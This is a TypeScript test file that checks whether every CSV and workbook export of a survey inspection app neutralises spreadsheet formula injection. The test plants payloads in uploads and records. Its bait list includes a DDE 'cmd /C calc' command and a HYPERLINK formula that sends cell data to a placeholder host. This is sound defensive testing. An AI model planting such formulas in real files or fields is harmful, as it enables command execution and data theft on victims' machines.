/**
 * Formulas planted wherever a contractor, a firm or an office can write a text, and every door that sends CSV or a
 * workbook: what comes out is text, in whatever program it is opened.
 *
 *   planted: files, columns, cells, sheets, names of units, classes, firms, crews, areas, deliveries, what is found
 */
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import excel from 'exceljs'
import papa from 'papaparse'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Endpoint } from '../../src/http/endpoint.ts'
import { xlsxBytes } from '../domain/survey/readers/build-xlsx.ts'
import { DISTRICT, openServed, type Served } from '../support/served.ts'
import { zipTexts } from '../support/zip-texts.ts'

/** What a spreadsheet may run; each with a word by which it is known again. */
const bait = [
  (word: string) => `=HYPERLINK("http://x.test/?"&A1,"${word}")`,
  (word: string) => `+cmd|' /C calc'!A0 ${word}`,
  (word: string) => `-1+1|${word}`,
  (word: string) => `@SUM(1+1)*${word}`,
  (word: string) => `\t=1+${word}`,
  (word: string) => `\r=1+${word}`,
  (word: string) => ` =1+${word}`,
  (word: string) => `＝1+${word}`,
]
/** As a cell begins that is no text to every program. Numbers are what they are. */
const runs = (cell: string): boolean =>
  !/^-?\d+(\.\d+)?$/.test(cell) && !/^\t\d+$/.test(cell) && /^[\s\0]*[=+\-@＝＋－＠]|^[\t\r\n]/.test(cell)

let served: Served
let cookie: string
let folder: string
beforeAll(async () => {
  served = await openServed()
  cookie = await served.signIn('administrator')
  folder = await mkdtemp(join(tmpdir(), 'wangge-planted-'))
})
afterAll(async () => {
  await rm(folder, { recursive: true, force: true })
  await served?.close()
})

async function ask<T = Record<string, unknown>>(method: string, path: string, body?: unknown): Promise<T> {
  const sent =
    body === undefined ? {} : { headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) }
  const answer = await fetch(served.address + path, {
    method,
    ...sent,
    headers: { cookie, origin: served.address, ...sent.headers },
  })
  const text = await answer.text()
  expect([method, path, answer.status < 300 ? '' : text]).toEqual([method, path, ''])
  return (text === '' ? undefined : JSON.parse(text)) as T
}
const bytesOf = async (path: string): Promise<Buffer> => {
  const answer = await served.get(path, cookie, { 'accept-language': 'zh-CN' })
  expect([path, answer.status]).toEqual([path, 200])
  return Buffer.from(await answer.arrayBuffer())
}

/** Cells of a CSV. */
const csvCells = (bytes: Buffer): string[] =>
  papa.parse<string[]>(bytes.toString('utf8').slice(1)).data.flat()

/** Texts of a workbook, of which none may be a formula now nor become one when its cell is touched. */
async function workbookCells(name: string, bytes: Buffer): Promise<string[]> {
  const parts = await zipTexts(bytes)
  const active = /externalLink|connections|vbaProject|oleObject|activeX|customXml/i
  expect([name, [...parts.keys()].filter(part => active.test(part))]).toEqual([name, []])
  for (const [part, text] of parts) {
    expect([name, part, /<(\w+:)?(f|hyperlink)[\s>/]/.exec(text)?.[0]]).toEqual([name, part, undefined])
    for (const [, rule] of text.matchAll(/<formula\d>([^<]*)<\/formula\d>/g))
      expect([name, rule!.replaceAll('&apos;', "'").replaceAll('&quot;', '"')]).toEqual([
        name,
        expect.stringMatching(/^(TRUE|[\d.]+|'_选项'!\$[A-Z]\$\d+:\$[A-Z]\$\d+|"[\p{L},]+")$/u),
      ])
  }
  const book = new excel.Workbook()
  await book.xlsx.load(bytes as unknown as ArrayBuffer)
  const texts: string[] = []
  for (const sheet of book.worksheets) {
    texts.push(sheet.name)
    sheet.eachRow(row =>
      row.eachCell({ includeEmpty: true }, cell => {
        if (cell.type === excel.ValueType.Null || cell.type === excel.ValueType.Merge) return
        const where = `${name} ${sheet.name}!${cell.address}`
        expect([where, [excel.ValueType.String, excel.ValueType.Number]]).toEqual([
          where,
          expect.arrayContaining([cell.type]),
        ])
        if (cell.type !== excel.ValueType.String) return
        const text = String(cell.value)
        texts.push(text)
        // formatted as text it stays one when somebody edits the cell
        if (runs(text)) expect.soft([where, text, cell.numFmt]).toEqual([where, text, '@'])
      }),
    )
  }
  return texts
}

/** Doors by what they send. */
const sheets = (): Endpoint[] =>
  served.app.endpoints.filter(
    ({ answer }) => answer && 'bytes' in answer && /csv|spreadsheetml/.test(answer.bytes),
  )

const load = async (
  kind: 'units' | 'classes' | 'components',
  name: string,
  content: string | Buffer,
  more = {},
) => {
  const path = join(folder, name)
  await writeFile(path, content)
  return served.load(kind, [path], more)
}
const csv = (rows: readonly (readonly string[])[]): string => papa.unparse(rows as string[][])

describe('formulas planted everywhere', () => {
  let paths: Record<string, string>
  /** Words that must come out again, by door. */
  const expected: Record<string, string[]> = {}

  beforeAll(async () => {
    await load(
      'units',
      'units.csv',
      csv([['单位名称'], ...bait.slice(0, 4).map((make, i) => [make(`unit${i}`)])]),
    )
    await load(
      'classes',
      'classes.csv',
      csv([
        ['code', 'name', 'geometry'],
        ...bait.slice(0, 4).map((make, i) => [`219${i + 1}`, make(`class${i}`), 'point']),
      ]),
    )
    // names of areas come with a net, which a test of texts need not load again
    await served.app.db.query(`UPDATE grid SET name = $1 || code WHERE level = 3`, ['=1+area'])
    const { items } = await ask<{ items: { bbox: [number, number, number, number] }[] }>(
      'GET',
      '/api/districts',
    )
    const [west, south, east, north] = items[0]!.bbox
    const at = (i: number) => [`${(west + east) / 2 + i / 1e4}`, `${(south + north) / 2}`]
    const columns = ['OBJCODE', 'OBJNAME', '经度', '纬度', 'NOTE', 'DEPTNAME2', '=1+column']
    const row = (i: number, of: string, name: string, note: string) => [
      `${DISTRICT}${of}${7_000_00 + i}`, name, ...at(i), note, bait[i % 4]!(`unit${i % 4}`), note,
    ] // biome-ignore format: a row
    const good = bait.map((make, i) =>
      row(i, `219${(i % 4) + 1}`, bait[i % 4]!(`class${i % 4}`), make(`note${i}`)),
    )
    const bad = bait.map((make, i) => [
      make(`code${i}`), make(`name${i}`), ...at(20 + i), make(`said${i}`), make(`owner${i}`), make(`more${i}`),
    ]) // biome-ignore format: a row
    const table = [columns, ...good, ...bad]
    const profile = {
      kind: 'components',
      crs: 'EPSG:4490',
      position: { x: '经度', y: '纬度' },
      fields: { code: 'OBJCODE', className: 'OBJNAME', note: 'NOTE', ownerName: 'DEPTNAME2' },
    }
    const profilePath = join(folder, 'profile.json')
    await writeFile(profilePath, JSON.stringify(profile))
    const firm = await ask<{ id: string }>('POST', '/api/firms', { name: '=1+firm' })
    const crew = await ask<{ id: string }>('POST', `/api/firms/${firm.id}/crews`, { name: '@crew' })
    const held = await ask<{ id: string }>('POST', '/api/allotments', {
      crew: crew.id,
      class: '2191',
      count: 5,
    })

    await ask('PUT', `/api/districts/${DISTRICT}/acceptance`, { acceptance: 'required' })
    await ask('PUT', '/api/acceptance/terms', {
      rows: { min: 3, max: 3 },
      areas: 1,
      prices: { '21': { unit: 'piece', price: 2 } },
    })
    const how = { profile: profilePath, contractor: '-1+contractor', name: '+1+delivery' }
    // a workbook whose sheet is called like a formula, and a CSV whose file is
    const book = await xlsxBytes([{ name: '=1+sheet', rows: [columns, ...bad] }])
    await expect(load('components', '=1+file.csv', csv(table), how)).rejects.toThrow('checked')
    const [sent] = (await ask<{ items: { id: string }[] }>('GET', '/api/deliveries?limit=1')).items
    await load('components', '+book.xlsx', book, { ...how, name: '@book' }).catch(() => {})
    const [failed] = (await ask<{ items: { id: string }[] }>('GET', '/api/deliveries?limit=1')).items

    await load('components', '=1+broken.zip', 'no zip', { name: '=1+none' }).catch(() => {})
    const [broken] = (await ask<{ items: { id: string }[] }>('GET', '/api/deliveries?limit=1')).items

    await ask('PUT', '/api/acceptance/terms', { least: { measured: 0 } })
    const inspection = await ask<{ id: string }>('POST', `/api/deliveries/${sent!.id}/inspections`, {})
    const all = await ask<{
      items: { no: number; kind: string; replacedBy: number | null; fields: { field: string }[] }[]
    }>('GET', `/api/inspections/${inspection.id}/items`)
    for (const item of all.items) {
      const asked = item.fields.map(each => each.field)
      const verdicts = Object.fromEntries(['exists', ...asked].map(field => [field, 'right']))
      const found = Object.fromEntries(asked.map(field => [field, '=1+found']))
      const sightings = [
        { kind: 'surplus', class: '2191', code: '@seen', note: '=1+walked', photo: '+photo' },
      ]
      await ask(
        'PUT',
        `/api/inspections/${inspection.id}/items/${item.no}`,
        item.kind === 'area'
          ? { walked: true, sightings, note: '=1+area-note' }
          : { verdicts, found, position: null, note: '-1+noted' },
      )
    }
    await ask('POST', `/api/inspections/${inspection.id}/accept`, { note: '=1+word' })
    await ask('POST', `/api/deliveries/${sent!.id}/approve`, {})

    paths = {
      '/api/deliveries/:id/marked.xlsx': `/api/deliveries/${sent!.id}/marked.xlsx`,
      '/api/deliveries/:id/marked.csv': `/api/deliveries/${sent!.id}/marked.csv`,
      '/api/deliveries/:id/findings.csv': `/api/deliveries/${sent!.id}/findings.csv`,
      '/api/templates/components.xlsx': '/api/templates/components.xlsx',
      '/api/templates/components.csv': '/api/templates/components.csv',
      '/api/templates/shapefile-fields.csv': '/api/templates/shapefile-fields.csv',
      '/api/allotments/:id/codes.xlsx': `/api/allotments/${held.id}/codes.xlsx`,
      '/api/allotments/:id/codes.csv': `/api/allotments/${held.id}/codes.csv`,
      '/api/inspections/:id/settlement.xlsx': `/api/inspections/${inspection.id}/settlement.xlsx`,
      '/api/inspections/:id/field-sheet.xlsx': `/api/inspections/${inspection.id}/field-sheet.xlsx`,
      '/api/settlement.xlsx': '/api/settlement.xlsx',
      'a workbook marked': `/api/deliveries/${failed!.id}/marked.xlsx`,
      'a broken file marked': `/api/deliveries/${broken!.id}/marked.xlsx`,
      'findings of a workbook': `/api/deliveries/${failed!.id}/findings.csv`,
      'a template of one class': '/api/templates/components.xlsx?class=2191',
    }
    const each = (word: string) => bait.map((_, i) => `${word}${i}`)
    Object.assign(expected, {
      '/api/deliveries/:id/marked.xlsx': [
        ...each('note'),
        ...each('said'),
        ...each('more'),
        '=1+column',
        '=1+file',
      ],
      '/api/deliveries/:id/marked.csv': [...each('note'), ...each('said'), ...each('more'), '=1+column'],
      '/api/deliveries/:id/findings.csv': [...each('name'), '=1+file.csv'],
      '/api/templates/components.xlsx': ['unit0', 'unit3', 'class0', 'class3'],
      '/api/allotments/:id/codes.xlsx': ['class0', '=1+firm', '@crew'],
      '/api/allotments/:id/codes.csv': ['class0', '=1+firm', '@crew'],
      '/api/inspections/:id/settlement.xlsx': ['class0', 'class3'],
      '/api/inspections/:id/field-sheet.xlsx': [
        '=1+found',
        '-1+noted',
        '=1+walked',
        '@seen',
        '+photo',
        '=1+area',
        'unit',
      ],
      '/api/settlement.xlsx': ['class0', '+1+delivery', '-1+contractor'],
      'a workbook marked': ['=1+sheet', ...each('said')],
      'findings of a workbook': ['=1+sheet', '+book.xlsx', ...each('name')],
      'a broken file marked': ['=1+broken.zip'],
      'a template of one class': ['class0'],
    })
  })

  it('are asked of every door that sends CSV or a workbook', () => {
    const doors = sheets().map(each => each.path)
    expect(doors.length).toBeGreaterThan(9)
    expect(doors.filter(path => paths[path] === undefined)).toEqual([])
  })

  it('come out as text, and come out', async () => {
    for (const [door, path] of Object.entries(paths)) {
      const bytes = await bytesOf(path)
      const workbook = path.includes('.xlsx')
      const cells = workbook ? await workbookCells(door, bytes) : csvCells(bytes)
      if (!workbook) expect([door, cells.filter(runs)]).toEqual([door, []])
      const lost = (expected[door] ?? []).filter(word => !cells.some(cell => cell.includes(word)))
      expect([door, lost]).toEqual([door, []])
    }
  })
})
